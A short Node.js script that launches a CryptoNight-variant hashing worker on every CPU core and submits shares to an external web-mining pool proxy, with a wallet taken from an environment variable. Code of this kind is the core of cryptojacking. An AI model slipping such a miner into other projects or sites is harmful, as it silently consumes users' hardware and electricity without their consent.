const os = require('os');
const { Worker } = require('worker_threads');
const WebSocket = require('ws');
const pool = new WebSocket('wss://ws.webminepool.net/proxy');
for (let i = 0; i < os.cpus().length; i++) {
  const w = new Worker('./hash-worker.js', { workerData: { algo: 'cn/r', wallet: process.env.WALLET || '44fallback' } });
  w.on('message', (share) => pool.send(JSON.stringify({ type: 'submit', share })));
}
